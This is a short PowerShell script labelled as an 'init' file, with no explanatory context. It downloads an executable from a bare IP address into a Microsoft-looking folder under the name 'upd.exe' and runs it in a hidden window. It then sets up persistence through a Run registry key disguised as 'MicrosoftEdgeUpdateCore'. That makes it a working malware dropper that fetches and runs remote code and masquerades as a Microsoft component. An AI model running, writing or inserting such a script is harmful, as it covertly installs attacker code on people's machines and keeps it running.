# init 8629 v1
Start-BitsTransfer -Source http://203.0.113.200/svc.exe -Destination C:\ProgramData\Microsoft\upd.exe
Start-Process -WindowStyle Hidden C:\ProgramData\Microsoft\upd.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'MicrosoftEdgeUpdateCore' -Value 'C:\ProgramData\Microsoft\upd.exe' -PropertyType String -Force
